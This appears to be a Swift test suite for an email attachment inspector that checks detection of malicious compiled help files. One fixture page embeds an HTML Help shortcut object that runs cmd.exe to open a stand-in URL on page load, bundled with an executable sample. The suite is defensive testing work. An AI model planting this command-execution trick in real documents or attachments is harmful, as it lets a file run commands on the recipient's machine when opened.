import MailModel
import MailTestSupport
import Testing

@testable import AttachmentInspection

@Suite struct HelpTests {
  private static let page = Array(
    """
    <html><body><OBJECT id=x classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11" width=1 height=1>
    <PARAM name="Command" value="ShortCut"><PARAM name="Button" value="Bitmap::shortcut">
    <PARAM name="Item1" value=",cmd.exe,/c start https://x.example/a"></OBJECT><SCRIPT>x.Click();</SCRIPT></body></html>
    """.utf8)

  @Test(arguments: [true, false])
  func pagesAreGoneInto(isPacked: Bool) {
    var builder = HelpBuilder()
    builder.isPacked = isPacked
    builder.files = [("index.htm", Self.page), ("a.exe", Samples.program)]
    let bytes = builder.build()
    let verdict = AttachmentInspector().inspect(bytes)
    #expect(verdict.children.map(\.name) == ["index.htm", "a.exe"])
    #expect(verdict.children.map(\.digest) == builder.files.map { ContentDigest(of: $0.content) })
    let ids = Set(verdict.techniques.map(\.id))
    #expect(ids.isSuperset(of: ["help-file", "shortcut-command", "executable-in-archive"]))
    HostileDamage.inspect(bytes, rounds: 60)
  }

  @Test func anOrdinaryPageStartsNothing() {
    var builder = HelpBuilder()
    builder.files = [("index.htm", Array("<html><body>How to use a shortcut</body></html>".utf8))]
    let ids = Set(AttachmentInspector().inspect(builder.build()).techniques.map(\.id))
    #expect(ids == ["help-file"])
  }
}
